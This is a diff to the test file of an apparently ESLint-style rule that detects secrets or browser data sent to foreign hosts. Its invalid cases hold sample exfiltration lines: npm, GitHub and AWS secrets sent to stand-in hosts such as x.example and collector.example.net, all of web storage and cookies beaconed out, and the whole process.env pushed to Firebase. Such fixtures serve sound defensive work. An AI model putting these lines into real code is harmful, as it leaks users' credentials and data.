@@ -10,6 +10,9 @@ ruleTester(rule, {
     'fetch("http://localhost:9000/envelope", { method: "POST", body: JSON.stringify({ a: process.env.SENTRY_AUTH_TOKEN, b: process.env.TEST_SECRET }) });',
     { name: 'analytics sends one named cookie', code: 'const cid = document.cookie.match(/_ga=([^;]+)/)[1];\nnew Image().src = "https://www.google-analytics.com/collect?cid=" + cid;' },
     'fetch("https://api.github.com/user", { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });',
+    // A service's own secret sent to that service, as data or in a query.
+    'fetch("https://api.github.com/graphql", { method: "POST", body: JSON.stringify({ token: process.env.GITHUB_TOKEN }) });',
+    'fetch(`https://sts.amazonaws.com/?Action=GetCallerIdentity&k=${process.env.AWS_ACCESS_KEY_ID}`);',
     'fetch(`${process.env.API_URL}/users`); fetch(process.env.BASE_URL + "/x", { body: JSON.stringify({ mode: process.env.NODE_ENV }) });',
     'const axios = require("axios");\naxios.get("https://maps.googleapis.com/maps/api/geocode/json?address=x&key=" + process.env.GOOGLE_API_KEY);',
     'fetch("/api/login", { method: "POST", body: JSON.stringify({ user: document.getElementById("user").value, password: document.getElementById("password").value }) });',
@@ -48,6 +51,13 @@ ruleTester(rule, {
     },
   ],
   invalid: [
+    // One service's secret sent as data to some other host.
+    {
+      code: 'const t = process.env.NPM_TOKEN;\nfetch("https://x.example/c", { method: "POST", body: t });',
+      errors: [{ messageId: 'flow', line: 2, column: 1, message: "with a secret for npm, to a host that is not npm's" }],
+    },
+    { code: 'require("axios").post("https://collector.example.net/t", { token: process.env.GITHUB_TOKEN });', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'secret for GitHub' }] },
+    { code: 'fetch("https://x.example/?k=" + process.env.AWS_SECRET_ACCESS_KEY);', errors: [{ messageId: 'flow', line: 1, column: 1, message: 'secret for AWS' }] },
     { code: 'const data = {};\nfor (let i = 0; i < localStorage.length; i++) data[localStorage.key(i)] = localStorage.getItem(localStorage.key(i));\nfetch("https://x.example/s", { method: "POST", body: JSON.stringify(data) });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'all of web storage' }] },
     { code: 'const jar = document.cookie.split("; ");\nnavigator.sendBeacon("https://x.example/c", jar.join("&"));', errors: [{ messageId: 'flow', line: 2, column: 1, message: 'cookies' }] },
     { code: 'var Firebase = require("firebase");\nvar ref = new Firebase("https://abcde-fg-1234.firebaseio.com/");\nref.child("env_vars").push({ status: "leaked", message: process.env });', errors: [{ messageId: 'flow', line: 3, column: 1, message: 'Firebase' }] },
